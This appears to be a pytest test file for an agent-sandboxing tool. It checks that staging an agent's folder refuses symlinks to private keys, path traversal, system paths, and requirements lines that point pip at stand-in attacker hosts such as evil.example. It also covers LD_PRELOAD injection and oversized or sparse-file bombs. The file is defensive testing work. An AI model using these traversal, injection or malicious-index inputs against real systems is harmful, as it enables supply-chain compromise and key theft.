"""A source that wants more than its folder: keys by links, paths that climb, other indexes, huge folders."""

import os
import socket
from pathlib import Path

import pytest

from hive.core.errors import HiveError, SpecError, TooLargeError
from hive.core.grant import Grant
from hive.execution import source_files
from hive.execution.confirm import (
    confirmation_needed,
    confirmed,
    cut_by_policy,
    open_ceiling,
    unattended_ceiling,
)
from hive.execution.source import find_command, find_source
from hive.execution.source_copy import stage
from hive.execution.source_files import visible_files

KEY = "-----BEGIN PRIVATE KEY-----"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    place = tmp_path / "home"
    (place / ".ssh").mkdir(parents=True)
    (place / ".ssh" / "id_ed25519").write_text(KEY)
    (place / "diary.txt").write_text(KEY)
    return place


@pytest.fixture
def folder(home: Path) -> Path:
    place = home / "agent"
    place.mkdir()
    (place / "agent.py").write_text("agent = 1\n")
    return place


def staged_text(folder: Path, home: Path, state: Path) -> str:
    found = find_source("agent.py", cwd=folder, home=home)
    assert found.visible
    place = stage(found.visible, state)
    return "".join(path.read_text() for path in place.rglob("*") if path.is_file())


def test_links_to_keys_are_left_out_in_every_form(folder: Path, home: Path, tmp_path: Path) -> None:
    (folder / "notes.txt").symlink_to(home / ".ssh" / "id_ed25519")
    (folder / "relative").symlink_to("../diary.txt")
    (folder / "keys").symlink_to(home / ".ssh")
    (folder / "all").symlink_to("/")
    (folder / "twice").symlink_to("notes.txt")
    (folder / ".env").write_text(KEY)
    (folder / "harmless.txt").symlink_to(".env")
    (folder / "loop").symlink_to("loop")
    assert KEY not in staged_text(folder, home, tmp_path / "state")
    # Without the guard a plain walk reads the key through each of them:
    assert (folder / "notes.txt").read_text() == (folder / "twice").read_text() == KEY


def test_a_link_inside_the_folder_becomes_a_plain_file(
    folder: Path, home: Path, tmp_path: Path
) -> None:
    (folder / "data.txt").write_text("data")
    (folder / "alias.txt").symlink_to("data.txt")
    found = find_source("agent.py", cwd=folder, home=home).visible
    assert found
    copy = stage(found, tmp_path / "state") / "alias.txt"
    assert not copy.is_symlink()
    assert copy.read_text() == "data"


def test_a_file_swapped_for_a_link_after_it_was_shown_is_not_copied(
    folder: Path, home: Path, tmp_path: Path
) -> None:
    found = find_source("agent.py", cwd=folder, home=home).visible
    (folder / "agent.py").unlink()
    (folder / "agent.py").symlink_to(home / "diary.txt")
    assert found
    with pytest.raises(SpecError):
        stage(found, tmp_path / "state")
    assert list((tmp_path / "state" / "sources").iterdir()) == []


def test_an_entry_file_that_is_a_link_out_of_its_folder_is_refused(
    folder: Path, home: Path
) -> None:
    (folder / "sly.py").symlink_to(home / "diary.txt")
    with pytest.raises(SpecError, match="a link out of the folder"):
        find_source("sly.py", cwd=folder, home=home)


@pytest.mark.parametrize("place", ["home", "home/..", "/", "/tmp", "/etc", "home/.ssh"])
def test_a_folder_that_holds_more_than_an_agent_is_refused(home: Path, place: str) -> None:
    named = place.replace("home", str(home))
    with pytest.raises(SpecError, match="cannot be an agent's folder"):
        find_source(named, cwd=home, home=home)


def test_a_file_in_the_home_folder_comes_alone(home: Path, tmp_path: Path) -> None:
    (home / "agent.py").write_text("agent = 1\n")
    found = find_source("./agent.py", cwd=home, home=home)
    assert list((found.visible or pytest.fail("no files")).paths) == ["agent.py"]
    command = find_command(["python3", "agent.py", "diary.md"], cwd=home, home=home)
    assert list((command.visible or pytest.fail("no files")).paths) == ["agent.py"]
    assert KEY not in staged_text(home, home, tmp_path / "state")


def test_special_files_do_not_stop_the_reader(folder: Path, home: Path) -> None:
    os.mkfifo(folder / "pipe")
    os.mkfifo(folder / "hive-agent.toml")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "socket"))
    found = find_source("agent.py", cwd=folder, home=home)
    assert list((found.visible or pytest.fail("no files")).paths) == ["agent.py"]
    assert len(found.left_out) == 3


@pytest.mark.parametrize(
    "text",
    [
        'entry = "../diary.txt"',
        'entry = "/etc/passwd"',
        'entry = "a/../../diary.txt"',
        "entry = \"agent.py:__import__('os')\"",
        'needs = { paths = [{ host = "data", inside = "/run/hive" }] }',
        'needs = { paths = [{ host = "data", inside = "/etc/../proc" }] }',
        'needs = { paths = [{ host = "data", inside = "/usr/bin" }] }',
        'needs = { paths = ["/"] }',
        'needs = { paths = ["/proc/1/root"] }',
        'needs = { paths = [{ host = "/proc/self/mem", inside = "/x" }] }',
        'needs = { paths = [{ host = "socket", inside = "/x" }] }',
        'needs = { hosts = ["https://evil.example/x"] }',
        'needs = { hosts = ["*"], hostz = [] }',
        'needs = { agents = ["hive.agents.>"] }',
        'environment = { LD_PRELOAD = "/x.so" }',
        'environment = { HIVE_HANDLE = "x" }',
        "limits = { memory_bytes = -1 }",
        'name = "../../x"',
        "a = " + "[" * 20_000,
    ],
)
def test_a_spec_cannot_climb_or_take_a_place_of_the_system(
    folder: Path, home: Path, text: str
) -> None:
    (folder / "hive-agent.toml").write_text(text)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "socket"))
    with pytest.raises(HiveError) as caught:
        find_source(".", cwd=folder, home=home)
    assert caught.value.what
    assert "\x1b" not in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links https://evil.example",
        "--trusted-host evil.example",
        "git+https://evil.example/x.git",
        "x @ https://evil.example/x.whl",
        "https://evil.example/x.whl",
        "-e .",
        "../../evil.whl",
        "/tmp/evil.whl",
        "file:///tmp/evil.whl",
        "-r ../../requirements.txt",
        "-r /etc/passwd",
        "-r https://evil.example/r.txt",
        "httpx --config-settings=x=y",
        "httpx; python_version > '3' @ https://evil.example/x.whl",
        "--no-binary :all:",
    ],
)
def test_requirements_cannot_send_the_builder_elsewhere(
    folder: Path, home: Path, line: str
) -> None:
    (folder / "requirements.txt").write_text(f"httpx\n{line}\n")
    with pytest.raises(SpecError):
        find_source("agent.py", cwd=folder, home=home)


def test_a_requirement_with_a_source_of_its_own_is_not_looked_up_by_name(
    folder: Path, home: Path
) -> None:
    (folder / "pyproject.toml").write_text(
        '[project]\nname="x"\ndependencies=["Internal_Lib>=1"]\n'
        '[tool.uv.sources]\ninternal-lib = { git = "https://evil.example/x" }\n'
    )
    with pytest.raises(SpecError, match="somebody else's"):
        find_source("agent.py", cwd=folder, home=home)


def test_a_folder_that_never_ends_is_given_up(
    folder: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(source_files, "ENTRIES_MAX", 50)
    for number in range(60):
        (folder / f"d{number}").mkdir()
    with pytest.raises(TooLargeError, match="more than 50 entries"):
        find_source("agent.py", cwd=folder, home=home)


def test_a_huge_sparse_file_is_refused_before_it_is_read(folder: Path, home: Path) -> None:
    with (folder / "bomb.bin").open("wb") as stream:
        stream.truncate(1 << 40)
    with pytest.raises(TooLargeError, match=r"bomb\.bin"):
        find_source("agent.py", cwd=folder, home=home)
    (folder / "hive-agent.toml").write_text('exclude = ["*.bin"]')
    assert find_source("agent.py", cwd=folder, home=home).spec.name == "agent"


def test_folders_too_deep_and_names_that_are_no_text_are_no_trouble(
    folder: Path, home: Path
) -> None:
    (folder / os.fsdecode(b"bad-\xff-name")).write_text("x")
    found = find_source("agent.py", cwd=folder, home=home)
    assert any("not UTF-8" in one for one in found.left_out)
    deep = folder
    for _ in range(40):
        deep = deep / "d"
        deep.mkdir()
    with pytest.raises(TooLargeError, match="deep"):
        visible_files(folder)


ALL = """
[needs]
paths = ["~/", { host = "~/.ssh", inside = "/keys", access = "rw" }]
hosts = ["*:1,22,443"]
programs = ["*"]
models = ["*"]
agents = ["*"]
tools = ["*"]
gpu = true
packages = true
[limits]
memory_bytes = 1000000000000
"""


def test_a_source_that_asks_for_everything_is_shown_line_by_line(folder: Path, home: Path) -> None:
    (folder / "hive-agent.toml").write_text(ALL)
    spec = find_source("agent.py", cwd=folder, home=home).spec
    lines = confirmation_needed(spec, cut_by_policy(spec.needs, open_ceiling()), None)
    assert lines is not None
    told = "\n".join(lines)
    for word in (f"reads and changes {home}/.ssh", f"reads {home}", "ANY HOST, ports 1, 22, 443",
                 "ANY PROGRAM", "ANY AGENT", "ANY TOOL", "a GPU", "installs packages"):  # fmt: skip
        assert word in told
    assert cut_by_policy(spec.needs, unattended_ceiling()) == Grant(models=("*",))


def test_a_source_that_asks_for_more_later_is_asked_about_again(folder: Path, home: Path) -> None:
    toml = folder / "hive-agent.toml"
    toml.write_text('[needs]\nhosts = ["api.example.org"]\n')
    first = find_source("agent.py", cwd=folder, home=home).spec
    yes = confirmed(first, cut_by_policy(first.needs, open_ceiling()))
    assert confirmation_needed(first, yes.grant, yes) is None
    toml.write_text('[needs]\nhosts = ["api.example.org", "evil.example"]\n')
    later = find_source("agent.py", cwd=folder, home=home).spec
    grant = cut_by_policy(later.needs, open_ceiling())
    assert grant.digest != yes.digest
    assert confirmation_needed(later, grant, yes) == ["reaches evil.example, port 443"]


def test_another_source_cannot_use_the_yes_of_an_agent_with_its_name(
    folder: Path, home: Path
) -> None:
    (folder / "hive-agent.toml").write_text(
        'name = "agent"\n[needs]\nhosts = ["api.example.org"]\n'
    )
    first = find_source("agent.py", cwd=folder, home=home).spec
    yes = confirmed(first, cut_by_policy(first.needs, open_ceiling()))
    other = home / "other"
    other.mkdir()
    for name in ("agent.py", "hive-agent.toml"):
        (other / name).write_text((folder / name).read_text())
    stranger = find_source("agent.py", cwd=other, home=home).spec
    assert (stranger.name, stranger.digest) == (first.name, first.digest)
    assert confirmation_needed(stranger, yes.grant, yes) == ["reaches api.example.org, port 443"]
